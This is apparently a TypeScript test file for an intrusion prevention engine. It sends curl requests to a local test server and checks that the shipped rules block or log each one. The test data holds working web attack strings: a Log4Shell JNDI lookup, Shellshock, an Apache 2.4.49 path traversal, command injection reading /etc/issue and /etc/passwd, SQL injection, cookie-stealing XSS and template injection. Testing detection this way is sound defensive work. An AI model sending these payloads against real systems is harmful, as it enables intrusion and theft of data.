import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Detection } from '@sakimori/contract/detection';
import { IntrusionLibraryFile } from '@sakimori/contract/intrusion-library';
import type { IntrusionPolicyRule } from '@sakimori/contract/policy-intrusion';
import { four, IntrusionSite, policyOf, six, whyNoIntrusion } from './test-site.ts';

/** Attacks of every sort that S2 lists, by curl against a web server behind the real engine with the shipped rules, in both modes. */
const modes = ['prevent', 'detect'] as const;
type Mode = (typeof modes)[number];
type Attack = {
  readonly row: 'S2a' | 'S2b' | 'S2c' | 'S2d';
  readonly what: string;
  /** The shipped rule that must name it. */
  readonly rule: number;
  readonly args: readonly string[];
  readonly host?: string;
};

const attacks: readonly Attack[] = [
  { row: 'S2a', what: 'Log4Shell in the address', rule: 1151, args: ['/?x=$%7Bjndi:ldap://192.0.2.7:1389/a%7D'] },
  { row: 'S2a', what: 'Shellshock over IPv6', rule: 1095, args: ['/', '-H', 'X-Test: () { :;}; /bin/id'], host: six },
  {
    ...{ row: 'S2a', what: 'out of the folder of Apache 2.4.49', rule: 1311 },
    args: ['/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/hostname', '--path-as-is'],
  },
  {
    row: 'S2a',
    what: 'a hole that has no number: a command in a field',
    rule: 1082,
    args: ['/p?h=1;cat%20/etc/issue'],
  },
  { row: 'S2a', what: 'a hole that has no number: a template', rule: 1101, args: ['/hello?name={{7*7}}'] },
  { row: 'S2b', what: 'in the address', rule: 1001, args: ['/?id=-1%20UNION%20ALL%20SELECT%201,user(),3'] },
  {
    row: 'S2b',
    what: 'over IPv6, encoded twice',
    rule: 1001,
    args: ['/?id=1%2520union%2520select%25201,2'],
    host: six,
  },
  { row: 'S2b', what: 'in a form', rule: 1002, args: ['/login', '-d', 'user=x&pass=-1 union select 1,2,3'] },
  { row: 'S2b', what: 'a condition that is always true', rule: 1003, args: ["/?user=a'%20or%20'1'='1"] },
  { row: 'S2c', what: 'a script in the address', rule: 1041, args: ['/?q=%3Cscript%3Ealert(1)%3C/script%3E'] },
  { row: 'S2c', what: 'an event handler', rule: 1043, args: ['/?q=%3Cimg%20src=x%20onerror=alert(1)%3E'], host: six },
  { row: 'S2c', what: 'an address that is a script', rule: 1045, args: ['/go?to=javascript:alert(document.cookie)'] },
  { row: 'S2d', what: 'a command behind a pipe', rule: 1081, args: ['/ping?host=127.0.0.1|id'] },
  { row: 'S2d', what: 'the file of passwords', rule: 1055, args: ['/?file=/etc/passwd'] },
  {
    row: 'S2d',
    what: 'a scanner',
    rule: 1371,
    args: ['/', '-A', 'sqlmap/1.8.4#stable (https://sqlmap.org)'],
    host: six,
  },
];

const shipped = (topic: string): IntrusionPolicyRule[] => {
  const path = join(import.meta.dirname, '../../../../rules/intrusion', `${topic}.json`);
  return IntrusionLibraryFile.parse(JSON.parse(readFileSync(path, 'utf8'))).rules.map((rule) => ({
    ...{ id: rule.ID, sid: Number(rule.identifier), name: rule.name, severity: rule.severity, priority: rule.priority },
    ...{ rule: rule.suricata, detectOnly: rule.detectOnly ?? false, CVE: rule.CVE },
    ...{ logEvents: true, logDrops: true, includePacketData: false, alert: false },
  }));
};
const rules = [
  ...['sql-injection', 'cross-site-scripting', 'command-injection', 'file-access', 'template-injection'],
  ...['java-servers', 'web-products', 'web-scanners'],
].flatMap(shipped);

describe('attacks of every listed sort', { skip: whyNoIntrusion() }, () => {
  let site: IntrusionSite;
  const statuses = new Map<string, string>();
  const plain: string[] = [];
  const keyOf = (mode: Mode, attack: Attack) => `${mode} ${attacks.indexOf(attack)}`;
  /** Each attack comes from an address of its own in each mode: what comes again from one is counted and not told. */
  const sourceOf = (mode: Mode, attack: Attack) => {
    const place = 100 + attacks.indexOf(attack) * 2 + modes.indexOf(mode);
    return attack.host === six ? `fd78::${place}` : `10.78.0.${place}`;
  };
  const found = (mode: Mode, attack: Attack): Detection | undefined =>
    site.detections.find(
      ({ source, rule }) => source?.address === sourceOf(mode, attack) && rule.id === `intrusion:${attack.rule}`,
    );

  const launch = ({ args: [path, ...more], host = four }: Attack, source: string) => {
    const url = `http://${host === six ? `[${six}]` : host}${path}`;
    return site.curl(url, undefined, '--interface', source, ...more);
  };

  before(async () => {
    site = new IntrusionSite('att');
    for (const mode of modes)
      for (const attack of attacks) {
        const source = sourceOf(mode, attack);
        site.network.addAddress(`${source}/${source.includes(':') ? 64 : 24}`);
        await site.warmUp(source);
      }
    for (const mode of modes) {
      await site.put(policyOf(mode, rules));
      await site.until(async () => (await site.status()).state === 'active', mode);
      for (const host of [four, `[${six}]`]) plain.push(await site.curl(`http://${host}/?q=student+union&page=2`));
      // What is dropped keeps curl waiting until its time is over.
      await Promise.all(
        attacks.map(async (attack) => statuses.set(keyOf(mode, attack), await launch(attack, sourceOf(mode, attack)))),
      );
    }
  });
  after(() => site?.remove());

  const rows = {
    S2a: 'S2a: attacks on known holes (with their CVE) and on holes nobody has a number for',
    S2b: 'S2b: SQL injection',
    S2c: 'S2c: cross-site scripting',
    S2d: 'S2d: other attacks: commands, files, scanners',
  } as const;
  for (const [row, name] of Object.entries(rows))
    test(`${name}: dropped and told as prevented, or let pass and told as detected`, async () => {
      for (const attack of attacks.filter((one) => one.row === row))
        for (const mode of modes) {
          const what = `${attack.what}, ${mode}`;
          assert.equal(statuses.get(keyOf(mode, attack)), mode === 'prevent' ? '000' : '200', what);
          const one = await site.until(() => found(mode, attack), what);
          const expected = mode === 'prevent' ? ['denied', 'success'] : ['observed', 'none'];
          assert.deepEqual([one.mode, one.action, one.actionResult], [mode, ...expected], what);
          const cve = rules.find(({ id }) => id === attack.rule)!.CVE ?? [];
          assert.equal(one.facts?.['cve'], cve.length > 0 ? cve.join(', ') : undefined, what);
        }
    });

  test('S2: what is no attack gets its answer in both modes', () => {
    assert.deepEqual(plain, ['200', '200', '200', '200']);
  });
});
